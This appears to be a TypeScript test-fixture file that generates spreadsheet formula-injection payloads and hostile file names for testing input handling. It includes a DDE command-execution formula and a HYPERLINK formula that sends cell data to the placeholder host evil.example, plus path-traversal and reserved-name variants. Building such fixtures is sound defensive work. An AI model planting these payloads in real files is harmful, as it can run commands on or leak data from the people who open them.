const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1)'];
const triggers = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠'];
const before = ['', ' ', '\u00a0', '\u200b', '"', "'", ',', ';', 'Kopi;', 'Kopi, ', 'a\n'];

/** What makes spreadsheets compute, behind everything that hides it: over 300 of them. */
export const formulaPayloads: string[] = before.flatMap((lead) =>
  triggers.flatMap((trigger) => bodies.map((body) => `${lead}${trigger}${body}`)),
);

const parts = [
  '..',
  '/',
  '\\',
  'C:',
  'con',
  'NUL',
  'aux.',
  '\u202e',
  'csv.exe',
  '\0',
  ' ',
  'é',
  '印',
  '%2e',
  '~',
];

/** Names that would leave a folder, hide their ending or be refused by Windows: 500 of them. */
export const hostileNames: string[] = Array.from({ length: 500 }, (_, index) =>
  [index, index * 7 + 1, Math.floor(index / 15)]
    .map((turn) => parts[turn % parts.length])
    .join(index % 3 === 0 ? '' : '/')
    .padEnd(index % 50 === 0 ? 300 : 0, 'x'),
);
